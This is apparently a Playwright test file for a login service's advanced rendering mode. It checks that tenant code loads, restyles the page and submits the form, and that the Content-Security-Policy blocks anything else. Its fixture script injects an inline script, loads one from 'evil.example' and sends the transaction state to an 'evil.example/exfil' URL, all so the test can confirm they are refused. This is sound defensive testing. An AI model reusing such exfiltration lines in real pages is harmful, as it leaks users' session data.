/**
 * A screen in advanced mode (the service's ACUL, src/authentication/pages/acul.ts)
 * in a real browser (Debian's Chromium through playwright-core): the login
 * page rendered by the pages' own code and served with its own
 * Content-Security-Policy header; the tenant's script and stylesheet from
 * the origin its head tags name load and run, read
 * `window.universal_login_context`, restyle the page and drive the screen's
 * form, whose post carries the transaction's state and CSRF token to the
 * same endpoint. What the CSP refuses stays refused: an inline script the
 * tenant's code adds, a script and a fetch to an origin the head tags do
 * not name. A request the filters exclude gets the standard page, without
 * the tenant's code.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { loginPage } from '../../src/authentication/pages/authorize.js';
import { pageUi, renderPage, type PageUi } from '../../src/authentication/pages/html.js';
import { applyRendering, DEFAULT_RENDERING, renderingProblem, type RenderingFacts, type StoredRendering } from '../../src/domain/branding/rendering.js';
import { chromiumSkipReason, inScenario, launchChromium, type Scenario } from './support/chromium.js';

const ORIGIN = 'https://login.acme.test';
const CDN = 'https://cdn.acme.test';
const VIEW = { clientName: 'Acme Reports', state: 'st4te', csrf: 'csrf-token' };

const CHANGES = {
  rendering_mode: 'advanced',
  context_configuration: ['client.metadata.tier', 'screen.texts'],
  head_tags: [
    { tag: 'script', attributes: { src: `${CDN}/acul.js`, defer: true } },
    { tag: 'link', attributes: { rel: 'stylesheet', href: `${CDN}/acul.css` } },
  ],
  filters: { match_type: 'excludes_any', clients: [{ id: 'excluded-client' }] },
};

const TENANT_SCRIPT = `
const ctx = window.universal_login_context;
const heading = document.createElement('h2');
heading.id = 'acul-heading';
heading.textContent = ctx.screen.texts.title + ' · ' + ctx.client.name + ' · ' + ctx.client.metadata.tier;
document.querySelector('main').prepend(heading);
const inline = document.createElement('script');
inline.textContent = 'window.inlineRan = true';
document.head.appendChild(inline);
const foreign = document.createElement('script');
foreign.src = 'https://evil.example/x.js';
document.head.appendChild(foreign);
fetch('https://evil.example/exfil?state=' + ctx.transaction.state).then(() => { window.fetched = true; }, () => { window.fetchRefused = true; });
document.getElementById('username').value = 'alice@example.com';
document.getElementById('password').value = 'Correct horse battery staple 1';
window.aculReady = true;
`;

const facts = (clientId: string): RenderingFacts => ({
  tenant: { name: 'acme' },
  client: { id: clientId, name: 'Acme Reports', metadata: { tier: 'gold' } },
  authorizationParams: {},
  state: VIEW.state,
});

async function open(scenario: Scenario, ui: PageUi, clientId: string): Promise<void> {
  const { html, csp } = renderPage(loginPage({ ...VIEW, usernames: false, signup: true }), ui, [], facts(clientId));
  await scenario.page.unroute(`${ORIGIN}/**`).catch(() => undefined);
  await scenario.page.route(`${ORIGIN}/page`, (route) => route.fulfill({ status: 200, contentType: 'text/html; charset=utf-8', headers: { 'content-security-policy': csp }, body: html.value }));
  await scenario.page.goto(`${ORIGIN}/page`);
}

describe('a screen in advanced mode in Chromium', { skip: chromiumSkipReason() }, () => {
  let browser: Browser;
  before(async () => {
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
  });

  test("the tenant's code reads the context, restyles the page and submits the form; the CSP still refuses what the head tags do not name", async () => {
    assert.equal(renderingProblem(CHANGES), undefined, 'settings the Management API accepts');
    const settings: StoredRendering = { prompt: 'login', screen: 'login', ...applyRendering(DEFAULT_RENDERING, CHANGES) };
    const ui = pageUi({ language: 'en', companyName: 'Acme', rendering: new Map([['login/login', settings]]) });
    await inScenario(browser, 'acul advanced login', async (scenario) => {
      const { page } = scenario;
      const evil: string[] = [];
      const refused: string[] = [];
      const cdnHits: string[] = [];
      page.on('console', (message) => {
        if (/Content Security Policy/i.test(message.text())) refused.push(message.text());
      });
      await page.route('https://evil.example/**', (route) => {
        evil.push(route.request().url());
        return route.fulfill({ status: 200, contentType: 'application/javascript', body: 'window.evilRan = true' });
      });
      await page.route(`${CDN}/**`, (route) => {
        cdnHits.push(route.request().url());
        const css = route.request().url().endsWith('.css');
        return route.fulfill({ status: 200, contentType: css ? 'text/css' : 'application/javascript', body: css ? '#acul-heading{color:rgb(1, 2, 3)}' : TENANT_SCRIPT });
      });

      await open(scenario, ui, 'app-client');
      await page.waitForFunction('window.aculReady === true');
      assert.equal(await page.locator('#acul-heading').textContent(), 'Log in · Acme Reports · gold');
      assert.equal(await page.evaluate(`getComputedStyle(document.querySelector('#acul-heading')).color`), 'rgb(1, 2, 3)', "the tenant's stylesheet applies");
      await page.waitForFunction('window.fetchRefused === true || window.fetched === true');
      assert.equal(await page.evaluate('window.fetched === true'), false, 'the fetch to an origin the tags do not name is refused');
      assert.equal(await page.evaluate('window.inlineRan === true'), false, 'the inline script the tenant\'s code added did not run');
      assert.equal(await page.evaluate('window.evilRan === true'), false, 'the script from another origin did not run');
      assert.deepEqual(evil, [], 'nothing was requested from the other origin');
      assert.ok(refused.some((m) => /script-src/.test(m)), `the CSP refused the scripts: ${refused.join(' | ')}`);
      await scenario.shot('advanced-login');

      // The tenant's code submits the screen's form: the same endpoint, the transaction's state and CSRF token.
      const posted = new Promise<{ url: string; body: string }>((resolve) => {
        void page.route(`${ORIGIN}/login`, (route) => {
          resolve({ url: route.request().url(), body: route.request().postData() ?? '' });
          return route.fulfill({ status: 200, contentType: 'text/plain', body: 'posted' });
        });
      });
      await page.evaluate(`document.querySelector('form[action="/login"]').requestSubmit()`);
      const { url, body } = await posted;
      assert.equal(url, `${ORIGIN}/login`);
      const fields = new URLSearchParams(body);
      assert.equal(fields.get('state'), VIEW.state);
      assert.equal(fields.get('csrf_token'), VIEW.csrf);
      assert.equal(fields.get('username'), 'alice@example.com');
      // The submission's navigation ends before the next page is opened (else it interrupts that one).
      await page.waitForURL(`${ORIGIN}/login`);
      await page.locator('body').getByText('posted').waitFor();

      // A client the filter excludes: the standard page, the tenant's code not loaded.
      cdnHits.length = 0;
      await open(scenario, ui, 'excluded-client');
      await page.locator('#username').waitFor();
      assert.equal(await page.evaluate('typeof window.universal_login_context'), 'undefined');
      assert.equal(await page.locator('#acul-heading').count(), 0);
      assert.deepEqual(cdnHits, [], "the tenant's origin was not asked");
    });
  });
});
